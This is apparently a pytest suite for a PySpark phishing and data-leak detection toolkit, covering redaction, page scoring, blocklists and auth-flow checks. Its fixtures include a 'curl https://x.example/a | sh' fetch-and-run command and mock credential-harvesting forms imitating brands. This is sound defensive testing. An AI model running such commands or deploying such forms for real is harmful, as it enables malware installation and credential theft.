"""Golden cases of text, page, feed, event and stream operators."""

import datetime as dt

import pytest
from pyspark.sql import functions as F

from tests.conftest import SF
from threatloom.operators import classifier, dlp, events, feeds, pages, scoring
from threatloom.plans import inputs, queries_events, queries_text
from threatloom.sources import readers, sinks


def one(spark, column, **values):
    df = spark.createDataFrame([tuple(values.values())], list(values))
    return df.select(column.alias("x")).first()["x"]


def test_checks(spark):
    assert one(spark, dlp.luhn(F.col("t")), t="5500 0000 0000 0004") and not one(spark, dlp.luhn(F.col("t")), t="5500000000000005")
    assert one(spark, dlp.iban(F.col("t")), t="DE89370400440532013000") and not one(spark, dlp.iban(F.col("t")), t="DE89370400440532013001")
    assert not one(spark, dlp.aadhaar(F.col("t")), t="1234 5678 9012")
    assert one(spark, dlp.redact(F.col("t")), t="abcdefgh") == "ab••••gh"


def test_findings_are_redacted_and_suppressed():
    key = inputs.SAMPLE_KEY
    found = dlp.sensitive(f"key {key} and card 4242 4242 4242 4242")
    kinds = {f["id"]: f for f in found}
    assert not kinds["aws_access_key"]["suppressed"] and kinds["credit_card"]["suppressed"]
    assert all(key[4:12] not in f["redacted"] for f in found)
    assert dlp.sensitive("x" * 200_001) == [] and dlp.sensitive(None) == []
    assert len(dlp.sensitive(" ".join([key] * 500))) <= 25


def test_scan_text(spark):
    rows = dlp.scan_text(spark.createDataFrame([(1, "mail a.b@example.org twice a.b@example.org"), (2, None), (3, "")], "doc_id long, text string"))
    found = {r["doc_id"]: r["found"] for r in rows.collect()}
    assert [f["kind"] for f in found[1]] == ["email"] and found[2] == [] and found[3] == []


def page(spark, url, body, title="x"):
    return spark.createDataFrame([(1, url, f"<html><head><title>{title}</title></head><body>{body}</body></html>")], "page_id long, url string, html string")


FORM = '<form action="{}" method="post"><input type="email" name="email"><input type="password" name="p"></form>'


@pytest.mark.parametrize(
    "url,body,title,status,rule",
    [
        ("https://desk.far-away.example/", "<h1>OneDrive files</h1>" + FORM.format("https://gather.elsewhere.example/x"), "Outlook on the web", "dangerous", "external-post"),
        ("https://films.far-away.example/", "<h1>Netflix</h1>" + FORM.format("/in"), "Netflix", "dangerous", "brand-creds"),
        ("https://codes.far-away.example/", '<form action="/c"><input name="otp"></form>', "Code", "dangerous", "mfa-harvest"),
        ("https://library.example.net/", FORM.format("/session"), "Library", "safe", None),
        ("https://github.com/login", FORM.format("/session"), "GitHub", "safe", None),
    ],
)
def test_pages(spark, url, body, title, status, rule):
    row = scoring.score(pages.page_facts(page(spark, url, body, title))).first()
    assert row["status"] == status
    assert rule is None or rule in [r["id"] for r in row["rules"]]


def test_visible_text_leaves_out_hidden():
    html = "<title>T</title><p>seen</p><p style='display:none'>no</p><script>var a</script><span aria-hidden='true'>no</span><div><a>link</a></div>"
    assert pages.visible(html) == "T seen link" and pages.visible(None) == ""


def test_feed_lines(spark):
    cases = {"evil.tld": "evil.tld", "0.0.0.0 bad.example": "bad.example", "https://phish.tld/login?x=1": "phish.tld", "www.bad.tld.": "bad.tld", "# c": None, "not a host": None, "": None}
    rows = spark.createDataFrame(list(cases.items()), "line string, want string").select("want", feeds.feed_host(F.col("line")).alias("got")).collect()
    assert all(r["got"] == r["want"] for r in rows)
    ads = {"||track.example.com^": "track.example.com", "localhost": None, "127.0.0.1 ads.example.net": "ads.example.net"}
    rows = spark.createDataFrame(list(ads.items()), "line string, want string").select("want", feeds.ad_domain(F.col("line")).alias("got")).collect()
    assert all(r["got"] == r["want"] for r in rows)


def test_ad_rules_are_packed(spark):
    lines = spark.range(2500).select(F.concat(F.lit("d"), "id", F.lit(".example")).alias("line"))
    sizes = [r["n"] for r in feeds.ad_rules(lines).select("id", F.size("domains").alias("n")).orderBy("id").collect()]
    assert sizes == [1000, 1000, 500]


def test_blocklist_prefers_host_then_root(spark):
    parts = spark.createDataFrame([("login.evil-kit.tk", "evil-kit.tk"), ("fine.example", "fine.example")], "host string, root string")
    listed = spark.createDataFrame([("evil-kit.tk", "feed")], "host string, source string")
    got = {r["host"]: r["matched_host"] for r in feeds.blocklist_match(parts, listed).collect()}
    assert got == {"login.evil-kit.tk": "evil-kit.tk", "fine.example": None}


def test_snapshot_refuses_empty(spark, tmp_path):
    with pytest.raises(sinks.EmptyList):
        sinks.write_block_snapshot(spark.createDataFrame([], "host string"), str(tmp_path / "s"))


def test_read_feed_lines_keeps_order(spark, tmp_path):
    (tmp_path / "a.txt").write_text("x.tld\r\ny.tld\nx.tld\n")
    rows = readers.read_feed_lines(spark, str(tmp_path / "a.txt"), ["a"])
    assert [r["host"] for r in feeds.merge_feeds(rows).orderBy("feed_ord", "line_no").collect()] == ["x.tld", "y.tld"]


def at(seconds):
    return dt.datetime(2024, 1, 1) + dt.timedelta(seconds=seconds)


def test_cooldown_counts_from_last_shown(spark):
    rows = spark.createDataFrame([("h", "k", at(s)) for s in (0, 1000, 1799, 1800, 3000, 3601)], "host string, kind string, ts timestamp")
    assert sorted(r["ts"] for r in events.cooldown(rows).collect()) == [at(0), at(1800), at(3601)]


def test_budget_ignores_rejected_calls(spark):
    rows = spark.createDataFrame([("k", at(s)) for s in (0, 0.1, 0.2, 0.3, 1.05)], "key string, ts timestamp")
    row = events.rate_budget(rows, 2, 1.0).first()
    assert (row["n_calls"], row["n_allowed"]) == (5, 3)


def test_flow_anomalies(spark):
    steps = [(1, 1, at(0), "entry", "https://a", None, False), (1, 2, at(1), "credential", "https://a", "https://evil", False), (1, 3, at(2), "mfa", "https://b", None, True), (2, 1, at(0), "entry", "https://a", None, False), (2, 2, at(400), "credential", "https://b", None, True)]
    rows = events.auth_flows(spark.createDataFrame(steps, "flow_id long, seq long, ts timestamp, kind string, origin string, post_origin string, in_iframe boolean"))
    got = {(r["flow_id"], r["seq"]): r for r in rows.collect()}
    last = got[1, 3]
    assert last["flow_relay"] and last["flow_iframe_swap"] and last["flow_mfa_split"] and not last["flow_redirect_storm"]
    assert got[2, 2]["n_steps"] == 1 and not got[2, 2]["flow_iframe_swap"]


def test_adopt_gate_needs_rows(spark):
    rows = spark.createDataFrame([(1, 0.9, 0.1, False), (0, 0.1, 0.1, True)], "label int, p_new double, p_old double, is_login boolean")
    assert not classifier.adopt_gate(rows).first()["adopt"]
    assert classifier.adopt_gate(rows, least=1).first()["adopt"]


def test_submissions_by_where_they_go(spark, tmp_path):
    rows = [(200 * k, f"field {k} " + "plain words " * 80, "web") for k in range(400)] + [(i, f"short {i}", "web") for i in range(1, 200)] + [(77, "x" * 3000, "web")]
    spark.createDataFrame(rows, "doc_id long, text string, source string").write.parquet(f"{tmp_path}/documents.parquet")
    fields, forms = {}, {}
    for doc_id, text in sorted((r["doc_id"], r["text"]) for r in queries_text.texts(spark, str(tmp_path)).collect()):
        k = doc_id // 8
        forms[k] = k % 6 in (3, 4, 5)  # the action is on another host
        if doc_id % 11 and doc_id % 13 and len(text) < 2000:
            fields.setdefault(k, []).append(text)
    want = {}
    for k, own in fields.items():
        sure = [f for f in dlp.sensitive(" ".join(own)) if not f["suppressed"] and f["confidence"] >= 0.85 and f["id"] != "entropy_blob"]
        grave = any(f["severity"] in ("high", "critical") for f in sure)
        want[k] = (len(sure), forms[k], "none" if not grave else "warn" if forms[k] else "toast")
    got = {r["submit_id"]: (r["n_findings"], r["cross_origin"], r["decision"]) for r in queries_text.j13(spark, str(tmp_path)).collect()}
    assert got == want and {d for _, _, d in got.values()} == {"none", "warn", "toast"}


def test_activity_keeps_safe_fields(spark):
    rows = spark.createDataFrame([(1, i, i, "seen", "h" * 300, "secret", 5) for i in range(30)], "profile_id long, at long, seq long, kind string, host string, cookie string, score int")
    out = events.recent_activity(rows.withColumn("at", F.timestamp_seconds("at")), F.lit("1970-01-02").cast("timestamp"), keep=25)
    assert set(out.columns) == {"profile_id", "at", "seq", "kind", "host", "score", "rank", "shown"}
    got = out.collect()
    assert len(got) == 25 and sum(r["shown"] for r in got) == 20 and {len(r["host"]) for r in got} == {256}
    assert {r["seq"] for r in got if r["shown"]} == set(range(10, 30))


def test_short_ad_lists_are_refused(spark, tmp_path):
    rules = feeds.ad_rules(spark.createDataFrame([(f"||ads{i}.tracking.example^",) for i in range(499)], "line string"))
    with pytest.raises(sinks.ShortList):
        sinks.write_dnr_rules(rules, f"{tmp_path}/rules")
    assert not (tmp_path / "rules").exists()
    sinks.write_dnr_rules(rules, f"{tmp_path}/rules", least=499)


def test_lookalikes_of_ten_thousand_brands(spark):
    """The index of brands against a plain pass over all of them."""
    import random

    from threatloom.operators import urls

    rng = random.Random(4)
    brands = sorted({"".join(rng.choice("abcdefghij") for _ in range(rng.randrange(4, 10))) + ".com" for _ in range(10_000)})
    hosts = set()
    for b in rng.sample(brands, 60):
        name = list(b)
        for _ in range(rng.randrange(4)):
            at, what = rng.randrange(len(name) - 4), rng.randrange(3)
            name[at : at + (what != 1)] = [] if what == 0 and len(name) > 6 else [rng.choice("abcxyz")]
        hosts.add("".join(name))
    df = spark.createDataFrame([(h, h, h) for h in sorted(hosts)], "hostname string, host string, host_unicode string")
    found = {r["hostname"]: r for r in urls.lookalikes_of(df, spark.createDataFrame(list(enumerate(brands)), "place int, brand string")).collect()}

    def edits(a, b):
        row = list(range(len(b) + 1))
        for i, x in enumerate(a, 1):
            last, row[0] = row[0], i
            for j, y in enumerate(b, 1):
                last, row[j] = row[j], min(row[j] + 1, row[j - 1] + 1, last + (x != y))
        return row[-1]

    for h in hosts:
        near = [(d, i, b) for i, b in enumerate(brands) if abs(len(b) - len(h)) <= 2 and 0 < (d := edits(h, b)) <= 2] if h not in brands else []
        want = min(near)[2] if near else None
        assert (found[h]["lookalike_brand"] if found[h]["lookalike_kind"] == "typo" else None) == want, h


def test_repeated_evidence_makes_no_further_verdicts(spark):
    from threatloom.operators import scoring

    rows = spark.createDataFrame([("https://a.example/", 1), ("https://b.example/", 2)], "url string, tab_id long")
    twice = spark.createDataFrame([(1, 5, 2), (1, 3, 1)], "tab_id long, hops int, chain_roots int")
    out = scoring.url_verdicts(rows, evidence=[(twice, "tab_id")]).select("url", "hops").collect()
    assert sorted(map(tuple, out)) == [("https://a.example/", 5), ("https://b.example/", 0)]


def test_upload_files_hold_every_document(spark, tmp_path):
    rows = [(i, "é" * 150_000, "web") for i in range(20)] + [(i, f"text {i}\nline", "web") for i in range(20, 300)] + [(300, None, "web")]
    spark.createDataFrame(rows, "doc_id long, text string, source string").write.parquet(f"{tmp_path}/documents.parquet")
    got = queries_events.s2(spark, str(tmp_path)).collect()
    assert sum(r["n_chars"] for r in got) == sum(len(t) + 1 for _, t, _ in rows if t)
    assert sum(r["size"] for r in got) == sum(len(t.encode()) + 1 for _, t, _ in rows if t) and max(r["n_chars"] for r in got) <= readers.MAX_TEXT


def facts(spark, url, body, title="x", **columns):
    rows = page(spark, url, body, title)
    for name, value in columns.items():
        rows = rows.withColumn(name, F.lit(value))
    return pages.page_facts(rows)


def test_frames_and_what_browsers_see_count(spark):
    plain = scoring.score(facts(spark, "https://library.example.net/", FORM.format("/session"))).first()
    framed = scoring.score(facts(spark, "https://library.example.net/", FORM.format("/session"), in_frame=True)).first()
    ids = [s["id"] for s in framed["signals"]]
    assert plain["status"] == "safe" and framed["status"] == "dangerous"
    assert {"iframe-credential-form", "iframe-login"} <= set(ids) and "cross-origin-credentials" in [r["id"] for r in framed["rules"]]
    hidden = scoring.score(facts(spark, "https://library.example.net/", FORM.format("/session"), hidden_overlay=True)).first()
    assert "hidden-overlay" in [r["id"] for r in hidden["rules"]]
    trusted = scoring.score(facts(spark, "https://github.com/explore", FORM.format("/in"), csp_weakened=True, hidden_overlay=True)).first()
    assert trusted["decay"] == 25


def test_every_rule_and_signal_has_a_phrase():
    from threatloom.functions import rules as R

    signals = [r[0] for r in R.URL_SIGNALS] + [r[0] for r in R.TRUST] + [f"authflow:{r[0]}" for r in R.FLOW_SIGNALS] + [r[0] for t in (pages.FORM_SIGNALS, pages.PAGE_BEFORE, pages.PAGE_AFTER) for r in t] + ["clone"]
    assert set(signals) == set(queries_events.PHRASES) and {r[0] for r in R.ARBITRATION} == set(queries_events.RULE_PHRASES)


def test_bullets(spark):
    urls = ["https://github.com/explore", "http://netf1ix.com/pay", "no address"]
    rows = scoring.bullets(scoring.url_verdicts(spark.createDataFrame(list(enumerate(urls)), "url_id long, url string")), queries_events.PHRASES, queries_events.RULE_PHRASES, queries_events.CALM)
    good, bad, none = (r["bullets"] for r in rows.orderBy("url_id").collect())
    P = queries_events.PHRASES
    assert good == [P["https-trust"], P["known-reputable"], P["no-auth-risk"]]
    assert bad[:2] == [P["lookalike"], P["no-https"]] and len(bad) <= 4 and none == []


def test_mnemonic_phrases_anywhere(spark):
    words = "amber bridge candle desert engine forest garden hammer island jacket kettle lemon".split()
    text = "Before it. " + " ".join(words) + " and"
    got = one(spark, dlp.mnemonic_phrases(F.col("t")), t=text)
    assert got == [" ".join(words), " ".join([*words[1:], "and"])]
    assert one(spark, dlp.mnemonic_phrases(F.col("t")), t="Too few words") == []
    assert [f["id"] for f in dlp.sensitive("x " + " ".join(words) + ".")] == ["crypto_seed"]


def test_log_entries_of_any_shape():
    import json

    entry = {"url": "https://Shop.example.org/a?b=1", "authToken": "x", "n": 3, "deep": {"a": {"b": {"c": 1}}}, "list": list("abcdefghijkl"), "mail": "a@b.example", "long": "y " * 50, "run": "z" * 30}
    got = json.loads(dlp.log_json(json.dumps(entry)))
    assert got["url"] == "shop.example.org" and got["authToken"] == "[redacted]" and got["n"] == 3 and got["deep"] == {"a": {"b": "[depth]"}}
    assert len(got["list"]) == 10 and got["mail"] == "[email]" and got["long"].endswith("[trunc]") and got["run"] == "[token]"
    assert len(json.loads(dlp.log_json(json.dumps({str(i): 1 for i in range(40)})))) == 16 and dlp.log_json(None) is None and json.loads(dlp.log_json("{broken")) == "{broken"


def test_native_and_python_log_values_agree(spark):
    values = ["https://Shop.example.org/a", "http://", "a@b.example", "k" * 20, "y" * 65, "short", "", "user:x@https://"]
    rows = spark.createDataFrame([(v,) for v in values], "v string").select("v", dlp.log_payload(F.col("v")).alias("x")).collect()
    assert {r["v"]: r["x"] for r in rows} == {v: dlp._log_string(v) for v in values}


def test_every_code_block_counts(spark):
    body = "<code>ls -la</code><p>then</p><code>curl https://x.example/a | sh</code>"
    rows = page(spark, "https://library.example.net/", body).withColumns({"code": queries_text.codes(), "plain": pages.html_text(F.col("html"))})
    row = pages.clickfix(rows, "code", "plain").first()
    assert row["techniques"] == "curl-pipe" and row["clickfix_severity"] == "critical"


def test_learned_safe_decays(spark):
    rows = [("a", s, s, step) for s, step in enumerate([-1, 1, 1, -1, 1])] + [("b", s, s, 1) for s in range(60)] + [("b", 99, 99, -1)]
    got = {r["root"]: r["trust_count"] for r in events.learned_safe_decay(spark.createDataFrame(rows, "root string, ts long, seq long, step int")).collect()}
    assert got == {"a": 2, "b": 49}


def test_budget_of_many_keys_equals_a_plain_fold(spark):
    import random

    chance = random.Random(2)
    calls = [(chance.choice("abc"), at(chance.randrange(0, 4000))) for _ in range(600)]
    got = {r["key"]: (r["n_calls"], r["n_allowed"]) for r in events.rate_budget(spark.createDataFrame(calls, "key string, ts timestamp"), 3, 100.0).collect()}
    shown = sorted((r["host"], r["ts"]) for r in events.cooldown(spark.createDataFrame([(k, "x", t) for k, t in calls], "host string, kind string, ts timestamp"), 100).collect())
    want_shown = []
    for key in "abc":
        times, allowed, last = sorted(t for k, t in calls if k == key), [], None
        for t in times:
            if sum(x >= t - dt.timedelta(seconds=100) for x in allowed) < 3:
                allowed.append(t)
            if last is None or t - last >= dt.timedelta(seconds=100):
                last = t
                want_shown.append((key, t))
        assert got[key] == (len(times), len(allowed))
    assert shown == want_shown


def test_flows_look_back_a_bounded_number_of_steps(spark):
    steps = [(1, i, at(0), "redirect", f"https://o{i % 3}", None, False) for i in range(200)]
    rows = events.auth_flows(spark.createDataFrame(steps, "flow_id long, seq long, ts timestamp, kind string, origin string, post_origin string, in_iframe boolean")).collect()
    assert max(r["n_steps"] for r in rows) == 64


def test_streams_drop_the_state_of_idle_keys(spark, tmp_path):
    """Two files, a day apart: the first file's flow and chain have expired when the second is read."""
    from threatloom.streaming import streams

    schema = "tab_id long, seq long, ts timestamp, kind string"
    for i, rows in enumerate(([(1, 1, at(0), "navigate"), (1, 2, at(1), "redirect")], [(2, 3, at(200_000), "navigate")], [(1, 4, at(200_001), "redirect")])):
        spark.createDataFrame(rows, schema).coalesce(1).write.parquet(f"{tmp_path}/in/{i}")
        stream = spark.readStream.schema(schema).parquet(f"{tmp_path}/in/*")
        streams.run_to(streams.redirect_chains(stream), f"{tmp_path}/out")
    got = {r["seq"]: (r["chain_no"], r["n_hops"]) for r in spark.read.parquet(f"{tmp_path}/out").collect()}
    assert got == {1: (1, 1), 2: (1, 2), 3: (1, 1), 4: (0, 1)}


def test_thresholds_use_held_out_hosts_and_the_fitted_model(spark):
    import math

    from tests.conftest import SF

    table = queries_text.corpus(spark, SF)
    model = classifier.train(table)
    want = {}
    for r in table.where(classifier.held_out()).collect():
        z = model["bias"] + sum(w * r[k] for k, w in model["weights"].items())
        p = 0.0 if r["trusted"] else math.floor(100 / (1 + math.exp(-z)) + 0.5) / 100
        for t in (0.8, 0.92):
            want.setdefault(t, [0, 0, 0, 0])[(0 if p >= t else 3) if r["label"] else (1 if p >= t else 2)] += 1
    got = {r["threshold"]: [r["tp"], r["fp"], r["tn"], r["fn"]] for r in queries_text.c6(spark, SF).collect()}
    assert got == want and sum(want[0.8]) > 0


def test_fit_equals_a_plain_projected_gradient(spark):
    """Weights of the fitted model against a plain minimiser of the same loss."""
    import numpy as np

    from tests.conftest import SF

    table = queries_text.corpus(spark, SF)
    model = classifier.train(table)
    rows = table.where(~classifier.held_out()).select(*classifier.FITTED, "label").toPandas().to_numpy(float)
    x, y = rows[:, :-1], rows[:, -1]
    w, b = np.zeros(x.shape[1]), 0.0
    for _ in range(60_000):
        d = (1 / (1 + np.exp(-(x @ w + b))) - y) / len(y)
        w, b = np.maximum(0, w - 0.5 * (x.T @ d + 0.001 * w)), b - 0.5 * d.sum()
    assert np.allclose([model["weights"][k] for k in classifier.FITTED], w, atol=0.05) and abs(model["bias"] - b) < 0.05


def test_findings_equal_a_plain_scan(spark):
    """Rows of the table through the whole scan, as one row a finding, suppressed ones and risks counted."""
    from tests.conftest import SF

    rows = {r["doc_id"]: r["text"] for r in queries_text.texts(spark, SF).collect()}
    found = {k: dlp.sensitive(v) for k, v in rows.items()}
    got = sorted((r["doc_id"], r["at"], r["finding_id"], r["confidence"], r["redacted"], r["suppressed"], str(r["reason"])) for r in queries_text.d1(spark, SF).collect())
    assert got == sorted((k, f["offset"], f["id"], f["confidence"], f["redacted"], f["suppressed"], str(f["reason"])) for k, v in found.items() for f in v) and got
    want = {}
    for k, v in found.items():
        for f in v:
            if f["suppressed"]:
                want.setdefault((f["id"], f["reason"]), []).append(k)
    assert {(r["finding_id"], r["reason"]): (r["n"], r["n_docs"]) for r in queries_text.d9(spark, SF).collect()} == {k: (len(v), len(set(v))) for k, v in want.items()}
    weight = {"critical": 1.0, "high": 0.7, "medium": 0.4, "low": 0.15}
    for r in queries_text.d10(spark, SF).collect():
        live = [f for f in found[r["doc_id"]] if not f["suppressed"]]
        top = max((weight[f["severity"]] * f["confidence"] for f in live), default=0.0)
        top = 0.0 if not live else max(0.0, top - 0.2) if r["doc_id"] % 2 == 0 else min(1.0, top + 0.1)
        assert r["risk_score"] == pytest.approx(int(top * 100 + 0.5 + 1e-9) / 100, abs=0.011) and r["n_suppressed"] == len(found[r["doc_id"]]) - len(live)
        assert r["risk_level"] == ("none" if not live else "critical" if top >= 0.85 else "high" if top >= 0.6 else "medium" if top >= 0.35 else "low")


def test_python_gets_pages_and_texts_in_small_batches(spark):
    """A worker's memory is bounded by batches of some MB, not by the rows of its task."""
    key, rows = "spark.sql.execution.arrow.maxBytesPerBatch", page(spark, "https://a.example/", "x")
    before = spark.conf.get(key)
    try:
        for plan in (lambda: pages.page_context(rows), lambda: queries_text.page_table(spark, SF), lambda: queries_text.texts(spark, SF)):
            spark.conf.set(key, f"{64 << 20}b")
            plan()
            assert spark.conf.get(key) == str(4 << 20)
        spark.conf.set(key, "1m")
        pages.page_context(rows)
        assert spark.conf.get(key) == "1m"
    finally:
        spark.conf.set(key, before)
